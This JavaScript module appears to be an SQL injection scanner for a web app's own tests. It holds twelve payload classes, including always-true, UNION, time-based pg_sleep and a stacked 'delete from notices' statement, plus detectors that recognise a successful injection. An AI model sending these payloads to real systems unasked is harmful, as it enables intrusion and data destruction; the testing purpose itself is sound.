/*
 * Twelve ways in which a value tries to become SQL. Each gives values to send in the place of `value`, and says how it
 * shows: by a breakdown, by what the database worked out, by a difference between what holds and what does not (with any
 * number), or by time.
 */

/** What `'qzx'||'jvq'` becomes when a database works it out, and nobody sends. */
export const WORKED_OUT = 'qzxjvq';
/** Two halves of which a database makes the whole. */
const HALVES = "'qzx'||'jvq'";
export const SLOW_MS = 1500;

export const CLASSES = {
  quote: (value) => ({ send: [`${value}'`] }),
  'double quote': (value) => ({ send: [`${value}"`] }),
  comment: (value) => ({ send: [`${value}' -- `, `${value}/*`] }),
  always: (value) => ({ send: [`${value}' or '1'='1`] }),
  stacked: (value) => ({ send: [`${value}'; delete from notices; -- `] }),
  union: (value) => ({ send: [`${value}' union select ${HALVES} -- `] }),
  'worked out': (value) => ({ send: [`${value}'||${HALVES}||'`] }),
  'order and column': () => ({ send: [`-id, (select ${HALVES})`] }),
  'name in quotes': (value) => ({ send: [`${value}\`]")`] }),
  'odd signs': (value) => ({ send: [`${value}\u0000'`, `${value}\u02bc\uff07`] }),
  'true or not': (value) => ({
    pairs: [
      // Comments instead of spaces: some values are split into words.
      (n) => [`${value}'/**/and/**/'${n}'='${n}`, `${value}'/**/and/**/'${n}'='${n + 1}`],
      (n) => [`${value || 1}/**/and/**/${n}=${n}`, `${value || 1}/**/and/**/${n}=${n + 1}`],
    ],
  }),
  time: (value, isPostgres) => ({ slow: [slow(value, isPostgres)] }),
};

/** Asks the database for something that takes long, in few signs: what is searched for is cut off at a hundred. */
const slow = (value, isPostgres) =>
  isPostgres
    ? `${value}'||(select/**/1/**/from/**/pg_sleep(4))||'`
    : `${value}'||length(randomblob(3e7))||'`;

const BROKEN = /SQLITE_|SqliteError|QueryFailed|syntax error|unrecognized token|no such column/i;

/** Why this answer shows that a value became SQL; null when it does not. */
export function betrayal({ status, text }, sent) {
  if (status >= 500) return `breaks down with ${status}`;
  if (BROKEN.test(text) && !BROKEN.test(sent)) return 'tells what the database said';
  return text.includes(WORKED_OUT) ? 'shows what the database worked out' : null;
}

/**
 * An answer without what differs from one to the next: tokens, what was done just before, and the one sign by which the two
 * of a pair differ.
 */
export const comparable = ({ status, text, headers }) =>
  [status, headers.get('location') ?? '', text]
    .join('\n')
    .replace(/name="_csrf" value="[^"]+"/g, '')
    .replace(/<div class="dc-bericht[^>]* role="status">.*/g, '')
    .replace(/(([74])(?:&#x27;|'|%27)?(?:&#x3D;|&#61;|=|%3D)(?:&#x27;|'|%27)?)[85]/g, '$1$2')
    .replace(/[0-9A-F]{6}(?=<)/g, '');
